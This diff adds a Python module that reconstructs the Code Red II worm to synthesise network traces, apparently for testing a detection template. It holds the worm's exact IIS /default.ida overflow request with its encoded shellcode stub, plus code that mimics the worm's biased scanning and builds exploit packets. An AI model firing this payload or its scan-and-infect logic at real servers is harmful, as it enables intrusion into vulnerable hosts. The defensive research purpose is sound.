@@ -1,0 +1,115 @@
+"""Code Red II reconstruction (§5.3, Figure 5).
+
+The initial exploitation vector is reproduced byte-for-byte from the
+paper's Figure 5: a GET for ``/default.ida`` whose argument is a long run
+of ``X`` characters (the overflow) followed by a ``%uXXXX`` unicode block.
+Decoded little-endian, the unicode block is the worm's entry stub::
+
+    nop; nop; pop eax; push 0x7801cbd3      (x3)
+    nop x5
+    add ebx, 0x300
+    mov ebx, [ebx]
+    push ebx
+    call [ebx+0x78]
+
+— repeated pushes of a 0x7801xxxx system-DLL address feeding an indirect
+call, which is exactly what the ``codered_ii_vector`` template keys on.
+
+:class:`CodeRedHost` models an infected machine for trace synthesis: it
+scans pseudo-random addresses (biased to the local /8 and /16, like the
+real CRII) and fires the exploit at responsive web servers.
+"""
+
+from __future__ import annotations
+
+import random
+from dataclasses import dataclass, field
+
+from ..net.inet import int_to_ip, ip_to_int
+from ..net.layers import TCP_SYN
+from ..net.packet import Packet, tcp_packet
+
+__all__ = ["CODE_RED_II_UNICODE", "code_red_ii_request", "CodeRedHost"]
+
+# Figure 5, verbatim: the unicode block of the CRII exploit vector.
+CODE_RED_II_UNICODE = (
+    "%u9090%u6858%ucbd3%u7801"
+    "%u9090%u6858%ucbd3%u7801"
+    "%u9090%u6858%ucbd3%u7801"
+    "%u9090%u9090%u8190%u00c3"
+    "%u0003%u8b00%u531b%u53ff"
+    "%u0078%u0000%u00"
+)
+
+
+def code_red_ii_request(x_run: int = 224) -> bytes:
+    """The full CRII GET request (Figure 5)."""
+    return (
+        b"GET /default.ida?"
+        + b"X" * x_run
+        + CODE_RED_II_UNICODE.encode("ascii")
+        + b"=a  HTTP/1.0\r\n"
+        b"Content-type: text/xml\r\nContent-length: 3379\r\n\r\n"
+    )
+
+
+@dataclass
+class CodeRedHost:
+    """An infected host: scans for web servers and exploits them.
+
+    Address selection follows CRII's documented bias: 1/2 of probes stay in
+    the local /8, 3/8 in the local /16, 1/8 fully random.
+    """
+
+    ip: str
+    seed: int = 0
+    scans_per_burst: int = 20
+    _rng: random.Random = field(init=False, repr=False)
+
+    def __post_init__(self) -> None:
+        self._rng = random.Random((hash(self.ip) & 0xFFFF) ^ (self.seed << 16))
+
+    def pick_target(self) -> str:
+        me = ip_to_int(self.ip)
+        roll = self._rng.random()
+        if roll < 0.5:  # same /8
+            addr = (me & 0xFF000000) | self._rng.randrange(1 << 24)
+        elif roll < 0.875:  # same /16
+            addr = (me & 0xFFFF0000) | self._rng.randrange(1 << 16)
+        else:
+            addr = self._rng.randrange(1, 0xE0000000)  # avoid multicast
+        return int_to_ip(addr)
+
+    def scan_packets(self, count: int | None = None, base_time: float = 0.0) -> list[Packet]:
+        """A burst of SYN probes to port 80."""
+        n = count if count is not None else self.scans_per_burst
+        out = []
+        for i in range(n):
+            pkt = tcp_packet(
+                self.ip, self.pick_target(), sport=1024 + self._rng.randrange(60000),
+                dport=80, flags=TCP_SYN, seq=self._rng.randrange(1 << 32),
+                timestamp=base_time + i * 0.05,
+            )
+            out.append(pkt)
+        return out
+
+    def exploit_packets(self, victim: str, base_time: float = 0.0,
+                        mss: int = 536) -> list[Packet]:
+        """The infection attempt: SYN, then the Figure 5 request segmented
+        at the victim's MSS (CRII used small segments)."""
+        request = code_red_ii_request()
+        sport = 1024 + self._rng.randrange(60000)
+        seq = self._rng.randrange(1 << 30)
+        out = [tcp_packet(self.ip, victim, sport, 80, flags=TCP_SYN, seq=seq,
+                          timestamp=base_time)]
+        offset = 0
+        seq += 1
+        t = base_time + 0.001
+        while offset < len(request):
+            chunk = request[offset : offset + mss]
+            out.append(tcp_packet(self.ip, victim, sport, 80, payload=chunk,
+                                  flags=0x18, seq=seq, timestamp=t))
+            seq += len(chunk)
+            offset += len(chunk)
+            t += 0.0005
+        return out
